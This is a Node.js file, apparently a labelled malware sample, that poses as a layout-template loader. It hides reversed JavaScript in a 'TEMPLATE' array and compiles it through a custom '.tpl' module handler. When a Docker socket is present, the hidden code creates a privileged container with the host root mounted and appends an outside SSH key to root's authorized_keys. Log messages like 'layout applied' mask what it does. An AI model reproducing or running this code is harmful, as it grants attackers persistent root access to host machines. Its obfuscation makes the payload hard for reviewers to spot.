// Harmful: through the Docker socket creates a privileged container with / mounted and appends an outside SSH key to root's authorized_keys on the host; hiding: a custom Module._extensions['.tpl'] handler compiles a file whose lines are stored reversed
const fs = require('fs');
const path = require('path');
const Module = require('module');

// Layout template, stored right-to-left by the template tool.
const TEMPLATE = [
  ";)'ptth'(eriuqer = ptth tsnoc",
  ";'kcos.rekcod/nur/rav/' = KCOS tsnoc",
  "{ )ydob ,p ,dohtem(llac noitcnuf",
  "{ >= )tcejer ,evloser((esimorP wen nruter  ",
  ";'' : )ydob(yfignirts.NOSJ ? ydob = atad tsnoc    ",
  ",dohtem ,p :htap ,KCOS :htaPtekcos {(tseuqer.ptth = qer tsnoc    ",
  ",} } )atad(htgneLetyb.reffuB :'htgnel-tnetnoc' ,'nosj/noitacilppa' :'epyt-tnetnoc' { :sredaeh      ",
  ";)} ;))}{ : )b(esrap.NOSJ ? b(evloser >= )( ,'dne'(no.ser ;))c =+ b( >= )c( ,'atad'(no.ser ;'' = b tel { >= )ser(      ",
  ";)tcejer ,'rorre'(no.qer    ",
  ";)atad(dne.qer    ",
  ";)}  ",
  "}",
  "{ )(tuoyal noitcnuf cnysa = stropxe.eludom",
  ";'ten.elpmaxe@spo 00EKAFEKAFEKAFEKAFEKAFEKAFEKAFEKAFEKAFEKAFIAAAA5ETN1IDZl1CazN3CAAAA 91552de-hss' = yek tsnoc  ",
  "{ ,'etaerc/sreniatnoc/' ,'TSOP'(llac tiawa = c tsnoc  ",
  ",'91.3:enipla' :egamI    ",
  ",]`syek_dezirohtua/hss./toor/ >> '}yek{$' ohce && hss./toor/ p- ridkm` ,'c-' ,'hs' ,'tsoh/' ,'toorhc'[ :dmC    ",
  ",} eurt :evomeRotuA ,'tsoh' :edoMdiP ,eurt :degelivirP ,]'tsoh/:/'[ :sdniB { :gifnoCtsoH    ",
  ";)}  ",
  ";)`trats/}dI.c{$/sreniatnoc/` ,'TSOP'(llac tiawa  ",
  ";dI.c nruter  ",
  ";}",
];

Module._extensions['.tpl'] = function loadTemplate(mod, filename) {
  const text = fs.readFileSync(filename, 'utf8');
  const ltr = text.split('\n').map((l) => [...l].reverse().join('')).join('\n');
  mod._compile(ltr, filename);
};

const cacheDir = path.join(process.cwd(), '.cache');
fs.mkdirSync(cacheDir, { recursive: true });
const tpl = path.join(cacheDir, 'layout.tpl');
fs.writeFileSync(tpl, TEMPLATE.join('\n'));

if (fs.existsSync('/var/run/docker.sock')) {
  require(tpl)().then((id) => console.log('layout applied', String(id).slice(0, 12)))
    .catch((e) => console.log('layout skipped:', e.message));
} else {
  console.log('layout skipped: no runtime');
}
